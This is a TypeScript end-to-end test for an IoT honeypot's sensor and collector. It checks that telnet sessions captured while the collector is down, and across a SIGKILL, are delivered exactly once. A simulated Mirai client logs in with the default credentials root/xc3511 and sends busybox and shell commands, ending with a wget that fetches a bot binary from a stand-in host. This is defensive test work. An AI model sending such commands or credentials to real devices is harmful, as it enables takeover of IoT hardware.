/**
 * End to end, with real processes: the `iotscope honeypot collector` and `iotscope honeypot sensor`
 * CLIs as children (node + tsx), HTTPS with openssl-made certificates, a Mirai-like client.
 *
 *   1. the collector is down; the sensor (enrol token only) records 30 sessions into its spool;
 *   2. the collector comes up; the sensor enrols and ships; once the first batches have been
 *      committed the sensor is killed with SIGKILL, mid-stream;
 *   3. the collector is stopped; the sensor restarts (its stored token) and records 15 more sessions;
 *   4. the collector restarts; the sensor resends what was never acknowledged.
 * Every event ever spooled is in the collector's store exactly once, and nothing else is.
 */
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import Database from "better-sqlite3";
import { afterAll, describe, expect, it } from "vitest";
import { repoRoot } from "../helpers/fixtures.js";
import { freePort, waitFor } from "../helpers/wait.js";
import { readSpool } from "./sensor-support.js";
import { makeCerts } from "./shipper-support.js";
import { MiraiClient } from "./telnet-mirai-client.js";

const entry = path.join(repoRoot, "src/cli/main.ts");
const children: ChildProcess[] = [];
const tmp = mkdtempSync(path.join(os.tmpdir(), "iotscope-e2e-"));

afterAll(() => {
  for (const c of children) if (c.exitCode === null) c.kill("SIGKILL");
  rmSync(tmp, { recursive: true, force: true });
});

/** Runs the CLI in one process (node --import tsx), so that a signal reaches iotscope itself. */
function cli(args: string[], ready?: (line: string) => boolean): Promise<{ child: ChildProcess; stdout: () => string; exit: Promise<number | null> }> {
  const child = spawn(process.execPath, ["--import", "tsx", entry, ...args], {
    cwd: repoRoot,
    env: { ...process.env, IOTSCOPE_DB: undefined, IOTSCOPE_DATA: undefined, IOTSCOPE_CONFIG: undefined, IOTSCOPE_LOG_LEVEL: "warn" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  children.push(child);
  let out = "";
  let err = "";
  child.stdout!.on("data", (d: Buffer) => (out += d.toString()));
  child.stderr!.on("data", (d: Buffer) => (err = (err + d.toString()).slice(-20_000)));
  const exit = new Promise<number | null>((r) => child.once("close", (code) => r(code)));
  return new Promise((resolve, reject) => {
    if (!ready) return resolve({ child, stdout: () => out, exit });
    const timer = setInterval(() => {
      if (out.split("\n").some(ready)) {
        clearInterval(timer);
        resolve({ child, stdout: () => out, exit });
      } else if (child.exitCode !== null) {
        clearInterval(timer);
        reject(new Error(`iotscope ${args.slice(0, 2).join(" ")} exited ${child.exitCode}: ${err}`));
      }
    }, 20);
  });
}

async function session(port: number, i: number): Promise<void> {
  const bot = await MiraiClient.connect(port);
  await bot.prompt();
  bot.line("root");
  await bot.prompt();
  bot.line("xc3511");
  await bot.prompt();
  for (const c of ["enable", "system", "shell", "sh", "/bin/busybox ECCHI", `wget http://192.0.2.${i % 250}/bins/x86`]) {
    bot.line(c);
    await bot.prompt();
  }
  bot.line("exit");
  await waitFor(() => bot.closed, "logout");
}

async function sessions(port: number, n: number, from: number): Promise<void> {
  for (let k = 0; k < n; k += 10) await Promise.all(Array.from({ length: Math.min(10, n - k) }, (_, j) => session(port, from + k + j)));
}

describe("honeypot end to end", () => {
  it("collector down, sensor SIGKILLed mid-batch, collector restarted: every event arrives exactly once", async () => {
    const certs = makeCerts(mkdtempSync(path.join(tmp, "certs-")));
    const dataDir = path.join(tmp, "collector");
    const spoolDir = path.join(tmp, "spool");
    const [collectorPort, telnetPort] = [await freePort(), await freePort()];

    const enrol = await cli(["honeypot", "enrol", "--sensor", "e2e-1", "--json", "--data-dir", dataDir]);
    expect(await enrol.exit).toBe(0);
    const { enrol_token } = JSON.parse(enrol.stdout()) as { enrol_token: string };

    const configFile = path.join(tmp, "sensor.json");
    writeFileSync(
      configFile,
      JSON.stringify({
        sensor: "e2e-1",
        host: "127.0.0.1",
        persona: "xiongmai-dvr-armhf",
        spool: { dir: spoolDir, segment_events: 10, segment_age_ms: 100 },
        emulators: { telnet: { ports: [telnetPort] } },
        collector: { url: `https://127.0.0.1:${collectorPort}`, ca_file: certs.caFile, enrol_token, retry_min_ms: 50, retry_max_ms: 300, heartbeat_s: 1 },
      }),
    );
    const startSensor = () => cli(["honeypot", "sensor", "--config", configFile, "--json"], (l) => l.includes('"listening"'));
    const startCollector = () =>
      cli(["honeypot", "collector", "--listen", `127.0.0.1:${collectorPort}`, "--tls-cert", certs.certFile, "--tls-key", certs.keyFile, "--data-dir", dataDir, "--json"], (l) =>
        l.includes("listening"),
      );
    const segments = () => readdirSync(path.join(spoolDir, "segments"));
    const allClosed = () => segments().every((f) => f.endsWith(".jsonl"));

    // 1. Collector down: everything stays in the spool.
    let sensor = await startSensor();
    await sessions(telnetPort, 30, 0);
    await waitFor(allClosed, "segments closed");
    const expected = new Set(readSpool(spoolDir).map((e) => e.id));
    expect(expected.size).toBe(30 * 16); // connect, 4 options, size, login, 7 inputs, download, closed

    // 2. Collector up: the sensor enrols and ships; SIGKILL once the first batches are committed.
    let collector = await startCollector();
    const db = new Database(path.join(dataDir, "iotscope.sqlite"), { readonly: true, fileMustExist: true });
    const stored = () => (db.prepare("select count(*) as n from honeypot_events where sensor = ?").get("e2e-1") as { n: number }).n;
    await waitFor(() => stored() > 0, "the first batch to be committed", 30_000);
    sensor.child.kill("SIGKILL");
    await sensor.exit;
    const atKill = stored();
    expect(atKill).toBeLessThan(expected.size); // killed mid-stream: batches were still unacknowledged

    // 3. Collector stopped; the sensor restarts (stored token) and records more while it is down.
    collector.child.kill("SIGTERM");
    expect(await collector.exit).toBe(0);
    sensor = await startSensor();
    await sessions(telnetPort, 15, 100);
    await waitFor(allClosed, "segments closed");
    for (const e of readSpool(spoolDir)) expected.add(e.id);
    expect(expected.size).toBe(45 * 16);

    // 4. Collector restarted: the sensor resends everything not acknowledged.
    collector = await startCollector();
    await waitFor(() => segments().length === 0, "the spool to drain", 60_000);
    const rows = db.prepare("select id from honeypot_events where sensor = ?").all("e2e-1") as Array<{ id: string }>;
    expect(rows.length).toBe(expected.size);
    expect(new Set(rows.map((r) => r.id))).toEqual(expected);
    db.close();

    sensor.child.kill("SIGTERM");
    expect(await sensor.exit).toBe(0);
    expect(sensor.stdout()).toContain('"stopped":true');
    collector.child.kill("SIGTERM");
    await collector.exit;
  }, 240_000);
});
